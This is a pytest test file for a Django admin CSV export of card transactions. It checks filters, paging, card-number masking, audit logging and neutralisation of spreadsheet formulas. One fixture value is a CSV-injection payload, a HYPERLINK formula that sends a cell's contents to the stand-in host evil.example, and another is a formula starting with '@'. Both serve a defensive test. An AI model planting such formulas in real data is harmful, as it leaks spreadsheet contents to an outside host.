"""The transactions list's CSV export: the rows its filters and search select, every
page, masked card numbers only, text a spreadsheet cannot run, and one audit row."""

import pytest
from django.contrib import admin
from django.urls import reverse
from django.utils.html import escape

from cardsystem.models import AuditLog
from tests.authorizing import authorize
from tests.exports import export_url, exported, header_of, rows_of
from tests.factories import CardFactory
from transactions.exports import TRANSACTION_COLUMNS
from transactions.models import Transaction

pytestmark = pytest.mark.django_db

LIST = "transactions_transaction"
CHANGELIST = reverse("admin:transactions_transaction_changelist")
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Corner Coffee")'


@pytest.fixture
def history(db):
    """Three approved coffees, one with a formula for a name, and one declined (too
    large for the card's balance)."""
    card = CardFactory(balance_minor=500_00)
    made = {
        "coffee": authorize(card, merchant_name="Corner Coffee"),
        "formula": authorize(card, merchant_name=HOSTILE),
        "at_sign": authorize(card, merchant_name="@SUM(1+1)"),
        "declined": authorize(card, merchant_name="Big Store", amount_minor=900_00),
    }
    assert made["declined"].status == Transaction.Status.DECLINED
    return {**made, "card": card}


def test_the_export_has_the_columns_and_every_row_newest_first(admin_client, history):
    assert header_of(admin_client, LIST) == [c.header for c in TRANSACTION_COLUMNS]

    rows = exported(admin_client, LIST)

    names = ["declined", "at_sign", "formula", "coffee"]
    assert [row["id"] for row in rows] == [str(history[name].pk) for name in names]
    declined = rows[0]
    assert declined["amount"] == "900.00" and declined["currency"] == "USD"
    assert declined["status"] == "declined" and declined["response_code"] == "51"
    assert declined["card"] == history["card"].masked_pan
    assert declined["transaction_time"].endswith("+00:00")


def test_the_lists_button_exports_every_page_not_just_the_one_shown(admin_client, history, monkeypatch):
    monkeypatch.setattr(admin.site._registry[Transaction], "list_per_page", 2)

    page = admin_client.get(f"{CHANGELIST}?status__exact=approved&p=2")

    assert len(page.context["cl"].result_list) == 1  # the second page of three rows
    export = page.context["export_url"]
    assert export == f"{export_url(LIST)}?status__exact=approved"
    assert f'href="{escape(export)}" class="export-csv">Export CSV<' in page.content.decode()
    assert len(rows_of(admin_client.get(export))) == 3
    assert len(exported(admin_client, LIST, {"p": "2"})) == 4  # a page in the address changes nothing


def test_the_export_keeps_the_lists_filter_search_and_ordering(admin_client, history):
    amount = admin.site._registry[Transaction].list_display.index("amount_display")  # o= counts from 0

    declined = exported(admin_client, LIST, {"status__exact": "declined"})
    coffee = exported(admin_client, LIST, {"q": "coffee"})
    by_amount = exported(admin_client, LIST, {"o": str(amount)})

    assert [row["id"] for row in declined] == [str(history["declined"].pk)]
    assert {row["id"] for row in coffee} == {str(history["coffee"].pk), str(history["formula"].pk)}
    assert [row["amount"] for row in by_amount] == ["42.00", "42.00", "42.00", "900.00"]


def test_a_merchant_name_that_is_a_formula_is_written_as_text(admin_client, history):
    rows = {row["id"]: row for row in exported(admin_client, LIST)}

    assert rows[str(history["formula"].pk)]["merchant_name"] == "'" + HOSTILE
    assert rows[str(history["at_sign"].pk)]["merchant_name"] == "'@SUM(1+1)"
    assert rows[str(history["coffee"].pk)]["merchant_name"] == "Corner Coffee"


def test_no_card_number_leaves_in_an_export_not_even_in_a_merchants_name(admin_client, history):
    card = history["card"]
    authorize(card, merchant_name=f"Shop {card.pan}")

    body = b"".join(admin_client.get(export_url(LIST)).streaming_content)

    assert card.pan.encode() not in body and card.cvv.encode() not in body.split(b",")
    assert f"Shop {'*' * 12}{card.pan[-4:]}".encode() in body
    assert card.masked_pan.encode() in body


def test_an_export_is_audited_with_its_list_query_and_row_count(admin_client, history, staff_user):
    exported(admin_client, LIST, {"status__exact": "approved", "q": "coffee"})

    record = AuditLog.objects.get(action=AuditLog.Action.LIST_EXPORTED)
    assert record.actor_user == staff_user and record.target_label == "transactions"
    assert record.details == {
        "list": "transactions.transaction",
        "query": "status__exact=approved&q=coffee",
        "rows": 2,
    }


def test_a_card_number_searched_for_is_masked_in_the_audit_record(admin_client, history):
    pan = history["card"].pan

    assert exported(admin_client, LIST, {"q": pan}) == []

    record = AuditLog.objects.get(action=AuditLog.Action.LIST_EXPORTED)
    assert pan not in str(record.details) and record.details["query"].endswith(pan[-4:])
